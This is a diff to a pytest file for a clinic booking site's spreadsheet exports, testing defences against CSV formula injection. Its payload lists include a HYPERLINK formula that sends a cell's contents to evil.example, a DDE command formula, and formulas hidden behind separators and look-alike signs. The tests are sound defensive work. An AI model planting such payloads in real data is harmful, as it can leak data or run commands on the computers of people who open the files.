@@ -2,17 +2,20 @@
 
 import csv
 import io
+import re
 from datetime import datetime
 
 import pytest
 from bs4 import BeautifulSoup
 from django.utils import timezone
 from openpyxl import load_workbook
+from wagtail.admin.views.mixins import SpreadsheetExportMixin
+from wagtail.hooks import search_for_hooks
 from wagtail.models import ModelLogEntry
 
 from clinic_pages.booking.desk.export import COLUMNS
 from clinic_pages.booking.models import BookingRequest
-from clinic_pages.lib.spreadsheets import as_text
+from clinic_pages.lib.spreadsheets import NEUTRAL, as_text
 from tests.booking.reception import (
     DESK,
     EMAIL,
@@ -51,7 +54,24 @@ FORMULAS = [
     '=HYPERLINK("http://evil.example?"&A1,"x")',
     "=cmd|' /C calc'!A0",
 ]
-HARMLESS = ["Róisín", "a=1", "1+1", "o'dea", "085 765 4321", "#N/A", "TRUE", "<b>", '"quoted", yes']
+# Where a program splits the file at semicolons or tabs, and takes no quote for one.
+INSIDE = [
+    "sent; =1+1",
+    "sent;=1+1",
+    "sent\t=1+1",
+    "sent\n=1+1",
+    "sent\r\n=1+1",
+    "sent;;\u200b＝1+1",
+    'sent;"=1+1"',
+    'sent;" ""=1+1"',
+    "sent;\x00@SUM(A1);-1",
+    "=1;=1",
+]
+SIGNS = tuple("=+-@＝＋－＠﹦−")
+HARMLESS = [
+    *("Róisín", "a=1", "1+1", "o'dea", "085 765 4321", "#N/A", "TRUE", "<b>", '"quoted", yes'),
+    *("first; then a=1", "one\ntwo", "one\ttwo", "yes, -5 degrees", 'she said "no"; and "yes"'),
+]
 
 
 @pytest.fixture
@@ -84,6 +104,45 @@ def test_what_a_spreadsheet_would_calculate_is_text(text):
     shown = as_text(text)
     assert shown.startswith("'")
     assert not set(shown) & set("\x00\x1b")
+
+
+def cells_of_other_programs(line: str) -> list[str]:
+    """As a program that splits at semicolons or at tabs sees them. What it does not see is left
+    out: spaces, and two quotes for none."""
+    return [re.sub(r'^[\s\u200b"]*', "", each) for each in re.split(r"[;\t\r\n]", line)]
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *INSIDE])
+def test_nor_where_a_program_splits_it_otherwise(manager, tree, text):
+    # Through the export: what the writer puts around a text is a part of what is seen.
+    therapy = tree.therapy(title="Cupping")
+    make_request(tree, name=f"x{text}", note=text, email="", therapy=therapy)
+    whole = download(manager, "csv").decode("utf-8-sig")
+    assert not [c for c in cells_of_other_programs(whole) if c[:1] in SIGNS]
+
+
+@pytest.mark.parametrize("text", INSIDE)
+def test_all_of_it_is_text(text):
+    assert not [
+        c for c in cells_of_other_programs(as_text(text)) if c[:1] in tuple("=+-@＝＋－＠﹦−")
+    ]
+
+
+def test_every_export_of_ours_is_neutral():
+    """Of whatever app of this project, by Wagtail's way: they say so, or write their own."""
+
+    def below(view: type) -> set[type]:
+        return {view}.union(*(below(each) for each in view.__subclasses__()))
+
+    search_for_hooks()
+    ours = {
+        view
+        for view in below(SpreadsheetExportMixin)
+        if view.__module__.split(".")[0] in ("clinic_pages", "home", "search") and view.list_export
+    }
+    assert len(ours) >= 4
+    for view in ours:
+        assert view.custom_value_preprocess is NEUTRAL, view
 
 
 @pytest.mark.parametrize("text", ["", *HARMLESS])
